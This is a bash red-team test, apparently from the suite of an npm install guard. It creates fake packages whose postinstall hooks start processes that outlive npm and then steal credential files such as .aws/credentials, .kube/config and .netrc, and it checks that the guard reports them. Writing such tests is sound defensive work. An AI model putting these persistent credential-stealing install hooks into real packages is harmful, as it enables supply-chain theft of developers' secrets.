#!/bin/bash
# R26: double fork, setsid, vfork, CLONE_PARENT, a subreaper, no terminal, no environment: it sleeps
# until npm is gone, then steals.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R26 'survivors'
sleeps=$([ -n "${VMTEST:-}" ] && echo 60 || echo 9) # longer than npm takes for the rest
n=0
ways=(all double-fork clone-parent thread vfork subreaper)
files=(.aws/credentials .vault-token .kube/config .docker/config.json .pypirc .netrc)
for way in "${ways[@]}"; do
	rt_package "outlive-$way-x" 1.0.0 - postinstall \
		"export RUNNER_TRACKING_ID=0
		./bin/survive $way $sleeps '$RT_HOME/${files[n]}' $RT_SINK; true" survive
	n=$((n + 1))
done

rt_control
rt_ok "processes outlive npm: $(lab_survivors | wc -l)" [ "$(lab_survivors | wc -l)" -ge "$n" ]
rt_ok 'the last of them has stolen' rt_eventually $((sleeps + 14)) rt_has_leaked .netrc
sleep 1
rt_leaked "${files[@]}"

if rt_guarded; then
	# They have done nothing yet, so nobody is accused; they are ended before they can.
	rt_peaceful
	sleep $((sleeps + 1))
	rt_silent
	rt_honest_installed
	for way in "${ways[@]}"; do
		rt_ok "outlive-$way-x is reported as left over" \
			rt_events event.action=leftover "package.name=outlive-$way-x"
	done
fi
rt_end
